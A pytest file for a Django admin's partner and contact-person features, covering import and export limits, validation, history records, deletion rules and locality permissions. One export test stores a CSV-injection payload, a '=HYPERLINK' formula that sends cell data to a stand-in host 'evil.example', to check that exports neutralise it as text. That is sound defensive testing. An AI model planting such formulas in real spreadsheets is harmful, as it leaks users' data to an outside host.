import datetime

import pytest
import tablib
from django.core.exceptions import PermissionDenied, ValidationError
from django.urls import reverse

from networks import services
from networks.admin import PartnerResource
from networks.models import ContactPerson, Partner
from stats.models import VenueFigure
from tests.networks.factories import ContactPersonFactory, PartnerFactory
from tests.stats.factories import ReportFactory

pytestmark = pytest.mark.django_db

HEADERS = ["locality", "role", "name", "municipality", "sector", "issuer_kind", "joined_on", "listed_publicly"]


def dataset(*rows):
    return tablib.Dataset(*rows, headers=HEADERS)


def test_admin_import_applies_the_model_rules(locality):
    result = PartnerResource().import_data(
        dataset(
            ["kajaani", "venue", "Teatteri", "205", "culture", "", "2025-01-01", "1"],
            ["kajaani", "venue", "Museo", "851", "culture", "", "2025-01-01", "1"],  # Tornio: not Kajaani's
            ["kajaani", "venue", "Halli", "205", "", "", "2025-01-01", "1"],  # no sector
        ),
        dry_run=True,
    )
    assert result.has_validation_errors()
    invalid = {row.number: row.error.message_dict for row in result.invalid_rows}
    assert "municipality" in invalid[2] and "sector" in invalid[3]
    assert not Partner.objects.exists()


def test_admin_import_matches_names_case_insensitively(locality):
    existing = PartnerFactory(locality=locality, name="Kajaanin Teatteri")
    result = PartnerResource().import_data(
        dataset(["kajaani", "venue", "KAJAANIN TEATTERI", "205", "sports", "", "2024-01-01", "1"]), dry_run=False
    )
    assert not result.has_errors() and not result.has_validation_errors()
    existing.refresh_from_db()
    assert existing.sector == "sports" and Partner.objects.count() == 1


def test_admin_export_has_no_contact_persons(locality):
    ContactPersonFactory(partner__locality=locality, name="Salainen Henkilö")
    exported = PartnerResource().export().csv
    assert "Salainen" not in exported and "kajaani" in exported


def test_staff_see_import_and_export_in_the_admin(staff_client, locality):
    PartnerFactory(locality=locality)
    assert staff_client.get(reverse("admin:networks_partner_changelist")).status_code == 200
    assert staff_client.get(reverse("admin:networks_partner_import")).status_code == 200
    assert staff_client.get(reverse("admin:networks_partner_export")).status_code == 200


def test_the_admin_refuses_a_file_too_large_for_one_request_before_reading_a_row(staff_client, locality, monkeypatch):
    """The admin imports inside the request (about 12 ms a row, at most 1,000 rows): a larger file is
    refused with a message that points to the portal's import, which runs as a background job."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    assert PartnerResource.max_rows == 1_000
    monkeypatch.setattr(PartnerResource, "max_rows", 3)
    rows = [["kajaani", "venue", f"Kohde {number}", "205", "culture", "", "2025-01-01", "1"] for number in range(4)]
    content = "\n".join(",".join(row) for row in [HEADERS, *rows]).encode()
    response = staff_client.post(
        reverse("admin:networks_partner_import"),
        {"resource": "0", "format": "0", "import_file": SimpleUploadedFile("k.csv", content, "text/csv")},
    )
    assert response.status_code == 200
    html = response.content.decode()
    assert "The admin imports at most 3 partners at a time, and this file has 4." in html
    assert "import_file_name" not in html  # no confirmation offered
    assert not Partner.objects.exists()
    result = PartnerResource().import_data(dataset(*rows[:3]), dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors()
    assert Partner.objects.count() == 3


def test_staff_edit_in_the_admin_is_validated_and_recorded(staff_client, staff, locality, kajaani):
    partner = PartnerFactory(locality=locality, name="Teatteri")
    url = reverse("admin:networks_partner_change", args=[partner.pk])
    data = {
        "locality": locality.pk,
        "role": "venue",
        "name": "Teatteri 2",
        "parent_organisation": "",
        "municipality": kajaani.pk,
        "address": "",
        "website": "",
        "sector": "culture",
        "category": "",
        "offer_fi": "",
        "offer_sv": "",
        "offer_en": "",
        "listed_publicly": "on",
        "issuer_kind": "",
        "joined_on": "2024-01-01",
        "left_on": "",
        "commitment_acknowledged_on": "",
        "commitment_kind": "",
        "version": partner.version,  # as the change form renders it
        "contacts-TOTAL_FORMS": "0",
        "contacts-INITIAL_FORMS": "0",
        "contacts-MIN_NUM_FORMS": "0",
        "contacts-MAX_NUM_FORMS": "1000",
    }
    response = staff_client.post(url, data)
    assert response.status_code == 302, response.content.decode()[:2000]
    partner.refresh_from_db()
    assert partner.name == "Teatteri 2"
    assert partner.history.latest().history_user == staff


def test_partner_changelist_sorts_without_a_join_and_asks_no_date_hierarchy(staff_client, locality):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    PartnerFactory.create_batch(3, locality=locality)
    with CaptureQueriesContext(connection) as queries:
        response = staff_client.get("/admin/networks/partner/")
    assert response.status_code == 200
    listing = [q["sql"] for q in queries.captured_queries if q["sql"].startswith('SELECT "networks_partner"."id"')]
    assert len(listing) == 1
    assert '"localities_locality"."name_fi" ASC' not in listing[0].split("ORDER BY")[1]
    assert not [q for q in queries.captured_queries if "joined_on" in q["sql"] and "DISTINCT" in q["sql"]]


def _partner_form_with_one_contact(client, partner, contact, **row):
    """The partner's change form as the admin posts it, with `contact` as its one inline row and `row` there."""
    page = client.get(reverse("admin:networks_partner_change", args=[partner.pk]))
    data = {key: value for key, value in page.context["adminform"].form.initial.items() if value is not None}
    data.update({"locality": partner.locality.pk, "municipality": partner.municipality.pk, "listed_publicly": "on"})
    data["version"] = page.context["adminform"].form["version"].value()
    data.update({"joined_on": "2024-01-01", "contacts-TOTAL_FORMS": "1", "contacts-INITIAL_FORMS": "1"})
    data.update({"contacts-MIN_NUM_FORMS": "0", "contacts-MAX_NUM_FORMS": "1000"})
    data.update({"contacts-0-id": contact.pk, "contacts-0-partner": partner.pk, "contacts-0-name": contact.name})
    data["contacts-0-email"] = contact.email
    return data | {f"contacts-0-{name}": value for name, value in row.items()}


def test_inline_contacts_saved_in_the_admin_are_recorded_and_versioned(staff_client, staff, locality, kajaani):
    partner = PartnerFactory(locality=locality, name="Teatteri", municipality=kajaani)
    old = ContactPersonFactory(partner=partner, name="Vanha", email="vanha@example.fi", is_primary=True)
    url = reverse("admin:networks_partner_change", args=[partner.pk])
    data = _partner_form_with_one_contact(staff_client, partner, old, name="Uusi nimi", is_primary="on")
    response = staff_client.post(url, data)
    assert response.status_code == 302, response.context and response.context["adminform"].form.errors
    old.refresh_from_db()
    assert (old.name, old.version) == ("Uusi nimi", 2)
    assert old.history.latest().history_user == staff


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_admin_export_writes_formula_like_text_as_text(staff_client, locality, file_format):
    """A coordinator's `=HYPERLINK(…)` reaches staff's spreadsheet as text, never as a live formula: the
    admin's export goes through the portal's writers and their one neutralising rule."""
    import csv
    import io

    from openpyxl import load_workbook

    from networks.admin import PartnerResource

    PartnerFactory(locality=locality, name='=HYPERLINK("http://evil.example/?"&A1,"Klikkaa")', address="@SUM(1)")
    fields = PartnerResource().get_export_order()
    response = staff_client.post(
        reverse("admin:networks_partner_export"),
        {"format": {"csv": "0", "xlsx": "1"}[file_format], "resource": "0"}
        | {f"partnerresource_{name}": "on" for name in fields},
    )
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"].startswith({"csv": "text/csv", "xlsx": "application/vnd.openxml"}[file_format])
    if file_format == "csv":
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    else:
        workbook = load_workbook(io.BytesIO(response.content))
        assert not any(cell.data_type == "f" for row in workbook.active.iter_rows() for cell in row)
        rows = [["" if value is None else value for value in row] for row in workbook.active.values]
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["name"] == """'=HYPERLINK("http://evil.example/?"&A1,"Klikkaa")"""
    assert record["address"] == "'@SUM(1)"
    assert record["locality"] == "kajaani"


@pytest.mark.parametrize(("file_format", "index"), [("csv", "0"), ("xlsx", "1")])
def test_an_admin_export_imports_again_unchanged(staff_client, locality, file_format, index):
    """The bounded reader gives django-import-export what its own readers gave: dates, numbers and the
    neutralised text of an exported file come back as they were."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    PartnerFactory(locality=locality, name="=Teatteri", joined_on=datetime.date(2024, 3, 1), listed_publicly=True)
    fields = PartnerResource().get_export_order()
    exported = staff_client.post(
        reverse("admin:networks_partner_export"),
        {"format": index, "resource": "0"} | {f"partnerresource_{name}": "on" for name in fields},
    ).content
    response = staff_client.post(
        reverse("admin:networks_partner_import"),
        {"resource": "0", "format": index, "import_file": SimpleUploadedFile(f"p.{file_format}", exported)},
    )
    assert response.status_code == 200
    assert not response.context["form"].errors
    result = response.context["result"]
    assert not result.has_errors() and not result.has_validation_errors()
    assert [row.import_type for row in result.rows] == ["skip"]


def test_a_contact_person_saved_in_the_admin_over_a_newer_one_is_refused(staff_client, staff, locality):
    from networks.models import ContactPerson

    contact = ContactPersonFactory(partner__locality=locality, name="Alku", email="alku@example.fi")
    url = reverse("admin:networks_contactperson_change", args=[contact.pk])
    opened = staff_client.get(url).context["adminform"].form["version"].value()
    contact.name = "Toisen nimi"
    services.contact_save(actor=staff, contact=contact)
    data = {"partner": contact.partner_id, "name": "Minun nimeni", "title": "", "email": "alku@example.fi"}
    response = staff_client.post(url, data | {"phone": "", "version": opened})
    assert response.status_code == 200 and "Minun nimeni" in response.content.decode()
    assert ContactPerson.objects.get(pk=contact.pk).name == "Toisen nimi"


def test_an_inline_contact_removed_in_the_admin_goes_through_the_service_with_who(
    staff_client, staff, locality, kajaani
):
    partner = PartnerFactory(locality=locality, name="Teatteri", municipality=kajaani)
    old = ContactPersonFactory(partner=partner, name="Vanha", email="vanha@example.fi")
    url = reverse("admin:networks_partner_change", args=[partner.pk])
    data = _partner_form_with_one_contact(staff_client, partner, old, DELETE="on")
    response = staff_client.post(url, data)
    assert response.status_code == 302, response.context and response.context["adminform"].form.errors
    assert not ContactPerson.objects.filter(pk=old.pk).exists()
    record = ContactPerson.history.filter(id=old.pk).latest()
    assert (record.history_type, record.history_user, record.history_change_reason) == ("-", staff, "deleted")


def test_a_contact_removed_on_its_own_admin_page_or_in_bulk_is_recorded(staff_client, staff, locality):
    first, second = ContactPersonFactory.create_batch(2, partner__locality=locality)
    response = staff_client.post(reverse("admin:networks_contactperson_delete", args=[first.pk]), {"post": "yes"})
    assert response.status_code == 302
    response = staff_client.post(
        reverse("admin:networks_contactperson_changelist"),
        {"action": "delete_selected", "_selected_action": [second.pk], "post": "yes"},
    )
    assert response.status_code == 302
    for contact in (first, second):
        record = ContactPerson.history.filter(id=contact.pk).latest()
        assert (record.history_type, record.history_user, record.history_change_reason) == ("-", staff, "deleted")


def test_a_coordinator_cannot_remove_another_localitys_contact_through_the_service(coordinator, other_locality):
    contact = ContactPersonFactory(partner__locality=other_locality)
    with pytest.raises(PermissionDenied):
        services.contact_delete(actor=coordinator, contact=contact)
    assert ContactPerson.objects.filter(pk=contact.pk).exists()


def _partner_history(pk):
    record = Partner.history.filter(id=pk).latest()
    return record.history_type, record.history_user, record.history_change_reason


def test_a_partner_deleted_on_its_admin_page_or_in_bulk_is_recorded_with_its_contacts(staff_client, staff, locality):
    on_page, first, second = PartnerFactory.create_batch(3, locality=locality)
    contact = ContactPersonFactory(partner=on_page)
    response = staff_client.post(reverse("admin:networks_partner_delete", args=[on_page.pk]), {"post": "yes"})
    assert response.status_code == 302
    response = staff_client.post(
        reverse("admin:networks_partner_changelist"),
        {"action": "delete_selected", "_selected_action": [first.pk, second.pk], "post": "yes"},
    )
    assert response.status_code == 302
    assert not Partner.objects.filter(pk__in=[on_page.pk, first.pk, second.pk]).exists()
    for partner in (on_page, first, second):
        assert _partner_history(partner.pk) == ("-", staff, "deleted")
    record = ContactPerson.history.filter(id=contact.pk).latest()
    assert (record.history_type, record.history_user, record.history_change_reason) == ("-", staff, "deleted")


def test_a_partner_named_in_a_report_is_not_deleted(staff_client, staff, locality):
    """As before: the admin's delete page names the report's rows that hold it; the service refuses too."""
    partner = PartnerFactory(locality=locality)
    VenueFigure.objects.create(report=ReportFactory(locality=locality), partner=partner, sector=partner.sector)
    response = staff_client.post(reverse("admin:networks_partner_delete", args=[partner.pk]), {"post": "yes"})
    assert response.status_code == 200 and response.context["protected"]
    with pytest.raises(ValidationError, match="End the partnership instead"):
        services.partner_delete(actor=staff, partner=partner)
    assert Partner.objects.filter(pk=partner.pk).exists()


def test_a_coordinator_cannot_delete_another_localitys_partner_through_the_service(coordinator, other_locality):
    partner = PartnerFactory(locality=other_locality)
    with pytest.raises(PermissionDenied):
        services.partner_delete(actor=coordinator, partner=partner)
    assert Partner.objects.filter(pk=partner.pk).exists()
